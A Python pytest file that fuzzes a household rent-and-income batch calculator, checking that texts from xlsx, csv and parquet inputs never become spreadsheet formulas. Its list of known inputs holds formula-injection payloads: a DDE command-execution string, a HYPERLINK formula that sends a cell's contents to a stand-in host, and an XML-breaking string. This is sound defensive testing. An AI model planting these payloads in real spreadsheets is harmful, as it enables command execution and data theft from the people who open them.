"""Texts from the outside stay texts: in every column that is carried through, in headers, and in what is said of them.

A csv file cannot say that a cell is a text, so there an apostrophe stands before a text that could be a formula.
"""

import csv
import unicodedata
from datetime import date
from zipfile import ZipFile

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from python_calamine import CalamineWorkbook

from calculator.batch import INPUT, OUTPUT
from calculator.batch.run import run
from tests.calculator.batch.households import read
from tests.calculator.batch.test_rows import one
from tests.calculator.strategies import steady
from tests.calculator.workbook.office import convert

LONGEST = 32_767  # characters of a cell, by the specification of Excel
PREFIXES = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t",
    "\r",
    "\n",
    "\r\n",
    " =",
    "  +",
    "\t=",
    "\xa0@",
    "'",
    '"',
    "#",
    "",
)
LETTERS = "=+-@＝＋－＠\t\r\n '\";,.|!()#%&<>_x0123456789ABFaé€中😀"
LETTERS += "\x00\x01\x08\x0b\x0c\x1f\x7f\x85\xa0\u2028\ufeff\u200b"
TEXTS = st.builds(str.__add__, st.sampled_from(PREFIXES), st.text(LETTERS, max_size=12))
KNOWN = [
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://a.example/?"&A1;"klik")',
    "+1+1",
    "-1+1",
    "-12,50",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1+1",
    "\ufeff=1+1",
    "＝1+1",
    "﹢1+1",
    "#N/A",
    "'=1+1",
    '"=1+1"',
    'a";"=1+1',
    "a\n=1+1\r\nb",
    "_x0041_",
    "_x0041_x0042_",
    "_xAB12\x01",
    "a\x00b\x1fc\x7f",
    "sep=;",
    "</t></is></c><c><f>1+1</f></c>",
    "12:30",
    "1E5",
    "0012",
    "ja",
]
LONG = ["=" + "a" * LONGEST, "\x01" * (LONGEST + 1), "_x0041_" * 5_000, "😀" * LONGEST]
# Columns that may hold any text; in the others a text that is an amount becomes a number.
FREE = ("dossier", "aanvrager_inkomen_soort", "kinderen_leeftijden", "medebewoners_bruto_inkomen_per_jaar")


def table(texts, headers):
    """Every text in every free column and under each of some more headers, as columns in a fixed order."""
    rows = len(texts)
    columns = [(name, list(texts) if name in FREE else [str(value or "")] * rows) for name, value in one().items()]
    return [(header, list(texts)) for header in headers] + columns


def write(columns, path):
    names, cells = [name for name, _ in columns], [column for _, column in columns]
    if path.suffix == ".parquet":
        pq.write_table(pa.Table.from_arrays([pa.array(column) for column in cells], names), path)
    elif path.suffix == ".csv":
        with path.open("w", encoding="utf-8", newline="") as file:
            csv.writer(file, delimiter=";").writerows([names, *zip(*cells, strict=True)])
    else:
        book = openpyxl.Workbook()
        for line, row in enumerate([names, *zip(*cells, strict=True)], 1):
            for place, text in enumerate(row, 1):
                cell = book.active.cell(line, place, escaped(text))
                cell.data_type = "s"
        book.save(path)
    return path


def escaped(text):
    """How Excel writes a text: what XML cannot hold, and each underscore, as a code."""
    return "".join(sign if sign in "\t\n" or (sign >= " " and sign != "_") else f"_x{ord(sign):04X}_" for sign in text)


def cells_of(path):
    """The cells of a sheet as texts, column by column, by the reader of another maker than the writer's."""
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as file:
            rows = list(csv.reader(file, delimiter=";"))
    else:
        rows = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    return [(column[0], list(column[1:])) for column in zip(*rows, strict=True)]


def is_risky(text):
    """Whether the first sign that shows begins a formula, for a program that makes wide letters plain."""
    shown = "".join(sign for sign in text if sign.isprintable() and not sign.isspace())
    begins = unicodedata.normalize("NFKC", shown[:1]) in ("=", "+", "-", "@")
    return text[:1] in ("\t", "\r", "\n") or (begins and not _is_number(text))


def _is_number(text):
    digits = text.removesuffix("%").lstrip("+-")
    return (
        text[:2].strip("+-") != "" and digits[:1].isdigit() and digits.isascii() and set(digits) <= set("0123456789.,")
    )


def check_workbook(path, columns):
    with ZipFile(path) as package:
        assert all(b"<f>" not in package.read(name) for name in package.namelist() if "worksheets" in name)
    page = openpyxl.load_workbook(path)["Huishoudens"]
    for column in page.iter_cols():
        dates = {"d"} if column[0].value == "peildatum" else set()
        assert {cell.data_type for cell in column} <= {"s", "inlineStr", "n"} | dates
    texts = [[unescape(str(cell.value or "")) for cell in column] for column in page.iter_cols(max_col=len(columns))]
    found = cells_of(path)
    assert [name for name, _ in found] == [name for name, _ in columns] + list(OUTPUT)
    for place, (name, cells) in enumerate(columns):
        if name in INPUT and name not in FREE:
            continue
        for shown in (texts[place], [found[place][0], *found[place][1]]):
            for given_text, text in zip([name, *cells], shown, strict=True):
                assert text == given_text or (is_cut(given_text) and given_text.startswith(text))


def is_cut(text):
    """Whether a text is longer than a cell, as it must be written."""
    return len(escaped(text).encode("utf-16-le")) // 2 > LONGEST


def check_csv(path, columns):
    found = cells_of(path)
    assert len(found) == len(columns) + len(OUTPUT)
    for (name, cells), (header, shown) in zip(columns, found, strict=False):
        for given_text, text in zip([name, *cells], [header, *shown], strict=True):
            if name not in INPUT or name in FREE:
                assert text == ("'" + given_text if is_risky(given_text) else given_text)
    assert not any(is_risky(text) for name, cells in found[: len(columns) + 1] for text in [name, *cells])


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    return tmp_path_factory.mktemp("fuzz")


@pytest.mark.slow
@pytest.mark.parametrize(
    ("begin", "ending"), [(".xlsx", ".xlsx"), (".parquet", ".xlsx"), (".csv", ".csv"), (".parquet", ".csv")]
)
def test_any_text_comes_back_as_that_text(folder, begin, ending):
    @steady
    @given(st.lists(TEXTS, min_size=1, max_size=40), st.lists(TEXTS, max_size=5))
    @example(KNOWN, KNOWN)
    @example(LONG, ["", "", "=1+1", "=1+1"])
    def check(texts, headers):
        columns = table(texts, [header for header in headers if header.strip().casefold() not in (*INPUT, *OUTPUT)])
        source = write(columns, folder / f"in{begin}")
        target = folder / f"uit{ending}"
        run(source, target)
        (check_csv if ending == ".csv" else check_workbook)(target, columns)

    check()


@pytest.mark.parametrize("begin", [".xlsx", ".csv", ".parquet"])
@pytest.mark.parametrize("ending", [".xlsx", ".csv", ".parquet"])
def test_no_header_breaks_the_file(tmp_path, begin, ending):
    """Doubles, empty ones, formulas, a setting of csv, and the names of some outcomes, which stay the owner's."""
    headers = ["sep=,", "", "x", "x", "x_2", "", "=1+1", "\n", "fout", " Marge_nu_per_maand ", "a;b", 'a"b', "é😀"]
    source = write(table(["een", "twee"], headers), tmp_path / f"in{begin}")
    assert run(source, tmp_path / f"uit{ending}").rows == 2
    again = run(tmp_path / f"uit{ending}", tmp_path / "weer.parquet")
    assert again.rows == 2
    found = read(tmp_path / "weer.parquet")
    assert len(set(found.columns)) == len(found.columns) == len(headers) + len(INPUT) + len(OUTPUT)
    assert {"fout_eigen", "Marge_nu_per_maand_eigen"} <= set(found.columns)
    assert list(found.columns[-len(OUTPUT) :]) == list(OUTPUT)
    assert found.iloc[:, 0].tolist() == ["een", "twee"]


def test_a_number_or_a_date_as_header_is_what_a_person_would_type(tmp_path):
    book = openpyxl.Workbook()
    book.active.append([*one(), 2026, date(2026, 7, 1), 1.5])
    book.active.append(["" if value is None else value for value in one().values()])
    book.save(tmp_path / "in.xlsx")
    run(tmp_path / "in.xlsx", tmp_path / "uit.csv")
    assert [name for name, _ in cells_of(tmp_path / "uit.csv")][len(INPUT) :][:3] == ["2026", "2026-07-01", "1,5"]


def test_a_mistake_repeats_a_text_without_becoming_a_formula(tmp_path):
    rows = {name: [value] * len(KNOWN) for name, value in one().items()} | {"kale_huur_nu_per_maand": KNOWN}
    columns = [(name, ["" if cell is None else str(cell) for cell in cells]) for name, cells in rows.items()]
    for ending in (".csv", ".xlsx"):
        run(write(columns, tmp_path / "in.csv"), tmp_path / f"uit{ending}")
        said = dict(cells_of(tmp_path / f"uit{ending}"))["fout"]
        right = {text for text, mistake in zip(KNOWN, said, strict=True) if not mistake}
        assert right == {"0012"}
        assert all(mistake.startswith("kale_huur_nu_per_maand: ") for mistake in said if mistake)


@pytest.mark.office
def test_a_spreadsheet_program_shows_the_text_itself(tmp_path):
    source = write(table(KNOWN, ["tekst"]), tmp_path / "in.parquet")
    for name in ("werkboek.xlsx", "tekst.csv"):
        run(source, tmp_path / name)
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    [shown] = convert([tmp_path / "werkboek.xlsx"], tmp_path / "a", "csv:Text - txt - csv (StarCalc):59,34,76")
    plain = [text.replace("\r\n", "\n") for text in KNOWN]  # one sign for a new line, as everywhere on Linux
    assert [text.replace("\r\n", "\n") for text in dict(cells_of(shown))["tekst"]] == plain
    [opened] = convert([tmp_path / "tekst.csv"], tmp_path / "b", "xlsx", "CSV:59,34,76")
    assert {cell.data_type for row in openpyxl.load_workbook(opened).active.iter_rows() for cell in row} <= {
        "s",
        "n",
        "d",
    }
    for text, cell in zip(KNOWN, dict(cells_of(opened))["tekst"], strict=True):
        if is_risky(text):
            assert cell.replace("\r\n", "\n") == "'" + text.replace("\r", "\n")
